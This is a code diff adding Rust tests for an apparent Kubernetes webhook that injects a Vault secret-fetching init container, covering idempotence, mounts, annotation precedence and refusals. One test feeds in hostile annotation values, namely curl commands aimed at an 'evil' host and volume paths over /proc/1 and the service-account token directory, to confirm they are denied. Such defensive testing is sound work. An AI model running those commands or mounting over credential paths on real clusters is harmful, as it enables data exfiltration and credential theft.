@@ -353,3 +353,114 @@ fn ten_thousand_annotations_are_refused() {
     let text = denial(&many);
     assert!(text.contains("expected at most 1000"), "{text}");
 }
+
+/// The pod with what injection adds, and its warnings.
+fn injected(pod: &Value) -> Result<(Value, Vec<String>), Denial> {
+    let done = super::super::inject::inject(pod, &injector())?;
+    let mut after = pod.clone();
+    super::super::patch::apply(&mut after, &done.ops);
+    Ok((after, done.warnings))
+}
+
+#[test]
+fn injecting_into_an_injected_pod_changes_nothing() {
+    let token = [("agent-inject", "true"), ("role", "web"), ("agent-inject-token", "true")];
+    let with = |more: &[(&'static str, &'static str)]| {
+        let all: Vec<_> = token.iter().chain(more).copied().collect();
+        pod_with("vault.hashicorp.com/", &all, one_app())
+    };
+    let bank = json!({ "containers": [{
+        "name": "app", "command": ["/app"], "env": [{ "name": "DB", "value": "pg://${vault:a/b#u}@db" }],
+    }] });
+    for pod in [
+        with(&[]),
+        with(&[("secret-volume-path", "/etc/app")]),
+        with(&[("agent-pre-populate-only", "true")]),
+        with(&[("agent-run-as-user", "1001"), ("agent-share-process-namespace", "true")]),
+        with(&[("tls-secret", "vault-tls"), ("ca-cert", "/vault/tls/ca.crt")]),
+        with(&[("agent-limits-mem", "64Mi"), ("agent-requests-cpu", "10m")]),
+        pod_with("vault.security.banzaicloud.io/", &[("vault-role", "web")], bank),
+    ] {
+        let (once, _) = injected(&pod).unwrap_or_else(|denial| panic!("{pod}: {denial:?}"));
+        assert_ne!(once, pod);
+        let (twice, _) = injected(&once).unwrap_or_else(|denial| panic!("{once}: {denial:?}"));
+        assert_eq!(once, twice);
+    }
+}
+
+#[test]
+fn a_token_stands_where_theirs_does() {
+    let all =
+        [("agent-inject", "true"), ("role", "web"), ("agent-inject-token", "true"), ("agent-run-as-user", "1001")];
+    let (pod, _) = injected(&pod_with("vault.hashicorp.com/", &all, one_app())).unwrap();
+    let mounts = &pod["spec"]["containers"][0]["volumeMounts"];
+    let expected = json!([
+        { "name": "secret-exec", "mountPath": "/run/secret-exec", "readOnly": true },
+        { "name": "secret-exec", "mountPath": "/vault/secrets", "subPath": "files", "readOnly": true },
+    ]);
+    assert_eq!(*mounts, expected);
+    let ours = &pod["spec"]["initContainers"][0];
+    assert_eq!(ours["securityContext"]["runAsUser"], 1001);
+    let args: Vec<&str> = ours["args"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
+    assert!(args.contains(&"token=vault:auth/token/lookup-self#id"), "{args:?}");
+    assert!(args.contains(&"vault.auth.role=web"), "{args:?}");
+}
+
+#[test]
+fn annotations_of_ours_win_with_a_warning() {
+    let mut pod = pod_with(
+        "vault.hashicorp.com/",
+        &[("agent-inject", "true"), ("role", "theirs"), ("agent-inject-token", "true")],
+        one_app(),
+    );
+    pod["metadata"]["annotations"]["secret-exec.dev/vault-role"] = json!("ours");
+    let (after, warnings) = injected(&pod).unwrap();
+    assert!(warnings[0].contains("secret-exec.dev/ wins"), "{warnings:?}");
+    let args = after["spec"]["initContainers"][0]["args"].to_string();
+    assert!(args.contains("vault.auth.role=ours") && !args.contains("theirs"), "{args}");
+    pod["metadata"]["annotations"]["secret-exec.dev/inject"] = json!("false");
+    assert_eq!(injected(&pod).unwrap().0, pod);
+}
+
+#[test]
+fn nothing_that_ours_may_not_do_is_done() {
+    for (key, value, text) in [
+        ("service", "https://evil", "the operator does not allow this address"),
+        ("auth-type", "approle", "expected kubernetes, jwt or aws"),
+        ("agent-inject-command-a", "sh -c 'curl evil'", "runs no command"),
+        ("agent-inject-command-a", "curl -X POST http://evil/", "runs no command"),
+        ("secret-volume-path", "/run/secret-exec", "expected another path"),
+        ("secret-volume-path", "/run/secret-exec-state", "expected another path"),
+        ("secret-volume-path", "/proc/1", "expected another path"),
+        ("secret-volume-path", "/var/run/secrets/kubernetes.io/serviceaccount", "expected another path"),
+    ] {
+        let all = [("agent-inject", "true"), ("role", "web"), ("agent-inject-token", "true"), (key, value)];
+        let text_of = injected(&pod_with("vault.hashicorp.com/", &all, one_app()));
+        let denial = text_of.map(|(pod, _)| pod).expect_err(key).join("; ");
+        assert!(denial.contains(text), "{key}: {denial}");
+    }
+    for key in ["tls-skip-verify", "tls-server-name", "proxy-address"] {
+        let all = [("agent-inject", "true"), ("role", "web"), ("agent-inject-token", "true"), (key, "true")];
+        let (pod, warnings) = injected(&pod_with("vault.hashicorp.com/", &all, one_app())).unwrap();
+        assert!(warnings.iter().any(|text| text.contains(key)), "{warnings:?}");
+        let args = pod["spec"]["initContainers"][0]["args"].to_string();
+        assert!(!args.contains("skipVerify") && !args.contains("tlsServerName") && !args.contains("proxy"), "{args}");
+    }
+}
+
+#[test]
+fn a_file_that_needs_go_templates_is_refused_with_its_annotation() {
+    let all = [("agent-inject", "true"), ("role", "web"), ("agent-inject-secret-db", "a/b")];
+    let denial = injected(&pod_with("vault.hashicorp.com/", &all, one_app())).unwrap_err();
+    assert!(
+        denial[0].starts_with("annotation vault.hashicorp.com/agent-inject-secret-db: this version does not"),
+        "{denial:?}"
+    );
+}
+
+#[test]
+fn the_namespace_of_a_request_counts() {
+    let pod = pod_with("vault.hashicorp.com/", &[("agent-inject", "true"), ("role", "web")], one_app());
+    let done = super::super::inject::inject_into(&pod, Some("kube-system"), &injector());
+    assert!(done.unwrap_err()[0].contains("kube-system"));
+}
